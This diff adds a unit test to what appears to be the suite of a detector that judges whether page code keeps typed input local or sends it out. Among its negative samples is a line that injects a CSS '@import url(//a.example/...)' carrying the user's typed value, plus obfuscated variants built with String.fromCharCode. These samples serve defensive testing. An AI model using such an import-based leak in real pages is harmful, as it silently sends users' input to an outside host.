@@ -120,6 +120,19 @@ test('a function that makes elements of what stands in the code keeps what is ty
   for (const code of made) assert.equal(keeps(`${LOCAL}; ${code}`), true, code)
 })
 
+test('bytes that become base64 at once keep what is typed, letters made of numbers do not', () => {
+  const bytes = 'new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(v)))'
+  const stored = `localStorage.setItem('k', btoa(String.fromCharCode(...${bytes})))`
+  assert.equal(keeps(`${LOCAL}; (async () => { ${stored} })()`), true)
+  for (const code of [
+    "at('s').textContent = String.fromCharCode(64) + 'import url(//a.example/' + v",
+    'const f = String.fromCharCode; btoa(f(64))',
+    "at('s').textContent = btoa(String.fromCharCode(64), at('s').textContent = String.fromCharCode(64))",
+    "const btoa = (text) => text; at('s').textContent = btoa(String.fromCharCode(64))",
+  ])
+    assert.equal(keeps(`${LOCAL}; ${code}`), false, code)
+})
+
 test('a function that may be given anything else sends', () => {
   const show = (more: string) => `const show = (html) => { at('view').innerHTML = html }; show('<p>a</p>'); ${more}`
   const h = (more: string) =>
